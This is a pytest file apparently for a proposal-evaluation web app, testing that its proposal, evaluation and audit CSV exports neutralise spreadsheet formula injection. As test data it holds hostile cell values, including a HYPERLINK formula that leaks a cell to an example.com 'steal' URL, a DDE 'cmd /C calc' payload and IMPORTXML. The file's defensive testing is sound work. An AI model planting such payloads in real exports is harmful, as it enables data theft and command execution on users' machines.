"""CSV exports against formula injection: every export, through its real route, with text that a
spreadsheet would otherwise run (=, +, -, @, a tab, a carriage return, spaces before a formula)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest

from matchmaker.audit.services import record_event
from matchmaker.db_types import utcnow
from matchmaker.enums import DecisionOutcome, Discipline
from matchmaker.evaluation import decisions
from matchmaker.web import csv_response

from .conftest import login

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "|", "%")
PLAIN_NUMBER = re.compile(r"-?[0-9][0-9.,]*")

HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1,"Klik hier")'
DDE = "+cmd|' /C calc'!A0"


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # the byte-order mark stays, for Excel
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    """No cell starts, or starts after spaces, with a formula character, unless it is a plain number."""
    for row in rows:
        for cell in row:
            if PLAIN_NUMBER.fullmatch(cell):
                continue
            assert not cell.startswith(FORMULA_START), repr(cell)
            assert not cell.lstrip().startswith(FORMULA_START), repr(cell)


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.fixture
def hostile(make):
    """A closed challenge whose every free-text field starts like a formula."""
    municipality = make.municipality(name="=Gemeente")
    officer = make.officer(municipality, email="-2+3@example.org")
    challenge = make.challenge(organisation=municipality, days_open=-1)
    challenge.criteria[0].name = "=SUM(A1:A9)"
    startup = make.startup(name="@SUM(1+1)")
    proposal = make.proposal(
        challenge=challenge, startup=startup, summary=HYPERLINK, understanding=DDE, solution="-2+3",
        team="\t=1+1", price_justification="\r=1+1", attachment_name="=evil.pdf")
    other = make.proposal(challenge=challenge, startup=make.startup(name="Gewoon BV"), summary="  =1+1")
    evaluator = make.user(email="=1+2@example.org")
    seat = make.seat(challenge=challenge, user=evaluator, discipline=Discipline.IT)
    review = make.review(seat=seat, proposal=proposal, values=[5, 4, 3, 2, 1], feedback="=IMPORTXML(A1)")
    review.scores[0].comment = "+cmd"
    second = make.seat(challenge=challenge)
    declaration = make.declaration(seat=second, proposal=proposal, conflict="personal")
    declaration.note = "\n@SUM(1)"
    decisions.prepare_decision(proposal=other, user=officer, outcome=DecisionOutcome.SHORTLISTED,
                               motivation="-2+3", pitch_at=utcnow() + timedelta(days=3), pitch_note="\r@pitch")
    decisions.prepare_decision(proposal=proposal, user=officer, outcome=DecisionOutcome.REJECTED,
                               motivation="＝1+1")
    return {"challenge": challenge, "officer": officer, "proposal": proposal}


def test_proposals_csv_has_no_live_formulas(client, hostile):
    login(client, hostile["officer"])
    rows = read_csv(client.get(f"/challenges/{hostile['challenge'].id}/proposals.csv"))
    assert rows[0][:3] == ["reference", "startup", "status"] and len(rows) == 3
    assert_no_live_formula(rows)
    assert {"'" + HYPERLINK, "'@SUM(1+1)", "'+cmd\\|' /C calc'!A0", "'-2+3", "'\t=1+1", "'\r=1+1", "'=evil.pdf",
            "'  =1+1"} <= cells(rows)
    assert "25000.00" in cells(rows)  # numbers stay numbers


def test_evaluation_csv_has_no_live_formulas(client, hostile):
    login(client, hostile["officer"])
    rows = read_csv(client.get(f"/challenges/{hostile['challenge'].id}/evaluation.csv"))
    assert_no_live_formula(rows)
    assert {"'=SUM(A1:A9)", "'=1+2@example.org", "'=IMPORTXML(A1)", "'+cmd", "'@SUM(1+1)", "'\n@SUM(1)",
            "'-2+3", "'@pitch", "'＝1+1"} <= cells(rows)
    assert ["5", "4", "3", "2", "1"] == [row[7] for row in rows if row[0] == "score"]  # scores stay numbers


@pytest.mark.parametrize("reader", ["officer", "admin"])
def test_audit_csv_has_no_live_formulas(app, client, make, hostile, reader):
    with app.test_request_context(environ_base={"REMOTE_ADDR": "@1+1"}):
        record_event(actor=hostile["officer"], action="test.hostile", subject=hostile["challenge"],
                     data={"value": "-2+3"})
    login(client, hostile["officer"] if reader == "officer" else make.admin(email="+admin@example.org"))
    rows = read_csv(client.get(f"/challenges/{hostile['challenge'].id}/audit.csv"))
    assert_no_live_formula(rows)
    assert "'-2+3@example.org" in cells(rows)
    assert ("'@1+1" in cells(rows)) == (reader == "admin")  # the IP column is for administrators only
    data = [row[5] for row in rows if row[2] == "test.hostile"]
    assert [json.loads(cell) for cell in data] == [{"value": "-2+3"}]  # the data column is JSON


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("|x", "'\\|x"), ("%1", "'%1"),
    ("\t1", "'\t1"), ("\r1", "'\r1"), ("  =1", "'  =1"), ("\n+1", "'\n+1"), ("\u200b=1", "'\u200b=1"),
    ("＝1", "'＝1"), ("﹢1", "'﹢1"), ("=cmd|x", "'=cmd\\|x"),
    ("-5", "-5"), ("-2,50", "-2,50"), ("-1.000,5", "-1.000,5"), (-5, "-5"), (2.5, "2.5"), (None, ""),
    ("Gewoon tekst", "Gewoon tekst"), ("a=b", "a=b"), ("", ""), ("1+1", "1+1"),
])
def test_every_cell_goes_through_the_defuser(app, cell, written):
    """What defusedcsv and `defuse_cell` do: an apostrophe before a formula, and "|" escaped in it;
    numbers, and text that is just a (negative) number, stay as they are."""
    with app.test_request_context():
        response = csv_response([["header"], [cell]], "x.csv")
    rows = read_csv(response)
    assert rows[1] == [written]
    assert response.headers["Content-Disposition"] == 'attachment; filename="x.csv"'
